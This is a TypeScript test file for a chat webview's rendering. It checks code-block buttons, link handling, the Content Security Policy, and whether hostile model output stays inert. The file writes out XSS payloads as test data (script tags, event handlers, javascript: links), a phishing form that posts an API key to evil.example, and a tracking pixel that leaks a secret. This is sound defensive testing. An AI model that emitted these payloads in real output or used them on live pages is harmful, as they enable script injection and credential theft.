import * as assert from 'node:assert/strict';
import type { HostMessage } from '../../src/webview/protocol';
import { assistantMsg, conversation, useWebview, userMsg } from './fixtures';
import type { WebviewPage } from './harness';

/** Starts a request as the host would, without the input (the app only needs chat/started). */
async function start(wv: WebviewPage, requestId = 'r1', id = 'a1'): Promise<void> {
  await wv.send({
    type: 'chat/started',
    requestId,
    userMessage: userMsg(`u-${id}`, 'question'),
    assistantMessage: assistantMsg(id, '', { state: 'streaming' }),
  });
  await wv.page.locator(`[data-message-id="${id}"]`).waitFor();
}

function deltas(text: string, size: number, requestId = 'r1', messageId = 'a1'): HostMessage[] {
  const out: HostMessage[] = [];
  for (let i = 0; i < text.length; i += size)
    out.push({ type: 'chat/delta', requestId, messageId, text: text.slice(i, i + size) });
  return out;
}

const CODE_ANSWER =
  'Here you go:\n\n```ts\nconst a = 1 < 2 && "<b>";\nexport function f(): number {\n  return 42;\n}\n```\n\nDone.';

describe('chat webview: code blocks and links', () => {
  const t = useWebview();

  it('highlights code blocks; Copy, Insert, Apply and New File post the exact code', async () => {
    const { page } = t.wv;
    await start(t.wv);
    await t.wv.send({ type: 'chat/done', requestId: 'r1', message: assistantMsg('a1', CODE_ANSWER) });
    const block = page.locator('[data-message-id="a1"] .code-block');
    await block.waitFor();
    assert.ok((await block.locator('.hljs-keyword').count()) > 0, 'highlighted');
    assert.equal(await block.locator('.code-lang').textContent(), 'ts');
    const code = 'const a = 1 < 2 && "<b>";\nexport function f(): number {\n  return 42;\n}';
    await block.getByTestId('code-copy').click();
    assert.deepEqual(await t.wv.waitForPosted('code/copy'), { type: 'code/copy', code });
    await block.getByTestId('code-insert').click();
    assert.deepEqual(await t.wv.waitForPosted('code/insert'), { type: 'code/insert', code });
    await block.getByTestId('code-apply').click();
    assert.deepEqual(await t.wv.waitForPosted('code/apply'), { type: 'code/apply', code, language: 'ts' });
    await block.getByTestId('code-new-file').click();
    assert.deepEqual(await t.wv.waitForPosted('code/newFile'), { type: 'code/newFile', code, language: 'ts' });
  });

  it('a streamed code block gets its buttons once its fence closes', async () => {
    const { page } = t.wv;
    await start(t.wv);
    await t.wv.sendBatch(deltas('Intro.\n\n```python\nprint("hi")\n', 5));
    const block = page.locator('[data-message-id="a1"] .code-block');
    await block.locator('code', { hasText: 'print("hi")' }).waitFor();
    assert.equal(await block.getByTestId('code-copy').count(), 0, 'open fence: no buttons yet');
    await t.wv.sendBatch(deltas('```\nAfter.', 3));
    await block.getByTestId('code-copy').waitFor();
    await block.getByTestId('code-copy').click();
    assert.equal((await t.wv.waitForPosted('code/copy')).code, 'print("hi")');
  });

  it('links post link/open and never navigate the webview', async () => {
    const { page } = t.wv;
    await start(t.wv);
    await t.wv.send({
      type: 'chat/done',
      requestId: 'r1',
      message: assistantMsg(
        'a1',
        'Read [the docs](https://example.com/docs?a=1&b=2), mail [us](mailto:hi@example.com) or see https://arcee.ai.',
      ),
    });
    const msg = page.locator('[data-message-id="a1"]');
    await msg.getByRole('link', { name: 'the docs' }).click();
    assert.deepEqual(await t.wv.waitForPosted('link/open'), {
      type: 'link/open',
      href: 'https://example.com/docs?a=1&b=2',
    });
    await msg.getByRole('link', { name: 'https://arcee.ai' }).click({ modifiers: ['Control'] });
    await page.waitForFunction(
      () =>
        (window as unknown as { __posted: { type: string }[] }).__posted.filter((m) => m.type === 'link/open')
          .length === 2,
    );
    assert.equal(page.url(), t.wv.url);
    assert.equal(t.wv.page.context().pages().length, 1, 'no new window');
  });
});

const HOSTILE = [
  'Hostile output follows.',
  '',
  '<script>window.__pwned = "script"</script>',
  '',
  '<img src=x onerror="window.__pwned = \'img\'">',
  '',
  '[click me](javascript:window.__pwned="js-link") and [data](data:text/html,<script>window.__pwned="data"</script>) and [vb](vbscript:msgbox(1)) and [mixed](JaVaScRiPt:window.__pwned=1)',
  '',
  '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  '',
  '<iframe src="javascript:window.__pwned=\'iframe\'"></iframe><object data="x"></object><embed src="x">',
  '',
  '```html',
  '<script>window.__pwned = "fenced"</script><img src=x onerror="window.__pwned=\'fenced-img\'">',
  '```',
  '',
  'Your session expired. Please re-enter your key:',
  '',
  '<form action="https://evil.example/steal"><input type="password" name="key" placeholder="API key"><button>Set API Key</button></form>',
  '',
  '![tracker](https://evil.example/pixel.png?secret=1) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=)',
  '',
  '<a href="javascript:window.__pwned=\'raw-a\'">raw anchor</a> [title](https://ok.example "x\\" onmouseover=\\"window.__pwned=1")',
].join('\n');

/** Everything an attacker would need inside the messages: none of it may exist. */
async function assertInert(wv: WebviewPage): Promise<void> {
  const report = await wv.page.evaluate(() => {
    const root = document.querySelector('[data-testid="chat-messages"]')!;
    const all = Array.from(root.querySelectorAll('*'));
    return {
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      forbidden: all
        .filter((e) => /^(script|iframe|object|embed|form|input|svg|math|style|link|meta|base)$/i.test(e.tagName))
        .map((e) => e.tagName),
      handlers: all.flatMap((e) =>
        Array.from(e.attributes)
          .filter((a) => /^on/i.test(a.name) || a.name === 'style')
          .map((a) => `${e.tagName}[${a.name}]`),
      ),
      hrefs: Array.from(root.querySelectorAll('a[href]')).map((a) => a.getAttribute('href')!),
      imgs: Array.from(root.querySelectorAll('img')).map((i) => i.getAttribute('src')!),
    };
  });
  assert.equal(report.pwned, undefined);
  assert.deepEqual(report.forbidden, []);
  assert.deepEqual(report.handlers, []);
  for (const href of report.hrefs) assert.match(href, /^(https?:|mailto:)/i, href);
  for (const src of report.imgs) assert.match(src, /^data:image\/(png|jpeg|gif|webp);/i, src);
}

describe('chat webview: Content Security Policy', () => {
  const t = useWebview();

  it('refuses remote images even where the sanitizer would let one through, and keeps data: images', async () => {
    const { page } = t.wv;
    await t.wv.send({
      type: 'conversation/load',
      conversation: conversation([assistantMsg('a1', 'Hello.')]),
      activeRequestId: null,
    });
    await page.locator('[data-message-id="a1"]').waitFor();
    // Put images straight into the page, as a sanitizer slip would: the CSP alone decides.
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
      );
      const load = (src: string): Promise<string> =>
        new Promise((resolve) => {
          const img = document.createElement('img');
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('refused');
          img.src = src;
          document.body.appendChild(img);
        });
      const remote = await load('https://evil.example/pixel.png?secret=rcai-stolen');
      const inline = await load('data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7');
      await new Promise((r) => setTimeout(r, 100));
      return { remote, inline, violations };
    });
    assert.equal(outcome.remote, 'refused');
    assert.ok(
      outcome.violations.some((v) => v.startsWith('img-src https://evil.example/pixel.png')),
      `the CSP refused it (not the network): ${JSON.stringify(outcome.violations)}`,
    );
    assert.equal(outcome.inline, 'loaded', 'data: images still show');
  });
});

describe('chat webview: hostile model output', () => {
  const t = useWebview();

  it('renders scripts, handlers, bad links, frames and forms as inert text', async () => {
    const { page } = t.wv;
    const external: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith('http://127.0.0.1:')) external.push(r.url());
    });
    await start(t.wv);
    // Streamed in small pieces (the open-tail path), then the final message (the finished-block path).
    await t.wv.sendBatch(deltas(HOSTILE, 7));
    await t.wv.frames(2);
    await assertInert(t.wv);
    await t.wv.send({ type: 'chat/done', requestId: 'r1', message: assistantMsg('a1', HOSTILE) });
    await t.wv.send({
      type: 'conversation/load',
      conversation: conversation([userMsg('u9', HOSTILE), assistantMsg('a9', HOSTILE)]),
      activeRequestId: null,
    });
    const msg = page.locator('[data-message-id="a9"]');
    await msg.waitFor();
    await t.wv.frames(2);
    await assertInert(t.wv);
    const text = (await msg.textContent()) ?? '';
    assert.match(text, /<script>window.__pwned = "script"<\/script>/, 'raw HTML shows as text');
    assert.match(text, /<form action=/);
    assert.match((await page.locator('[data-message-id="u9"] .msg-text').textContent()) ?? '', /<img src=x onerror=/);
    // The web image became a link (not loaded); clicking it goes through the host.
    await msg.locator('a.image-link').click();
    assert.equal((await t.wv.waitForPosted('link/open')).href, 'https://evil.example/pixel.png?secret=1');
    // Whatever can be clicked, nothing runs and the page stays.
    for (const a of await msg.locator('a').all()) await a.click();
    await t.wv.frames(2);
    await assertInert(t.wv);
    assert.equal(page.url(), t.wv.url);
    assert.deepEqual(external, [], 'nothing loaded from outside');
    assert.deepEqual(
      t.wv.errors.filter((e) => !/Failed to load resource/.test(e)),
      [],
    );
    const opened = (await t.wv.posted())
      .filter((m) => m.type === 'link/open')
      .map((m) => (m.type === 'link/open' ? m.href : ''));
    for (const href of opened) assert.match(href, /^(https?:|mailto:)/);
  });
});
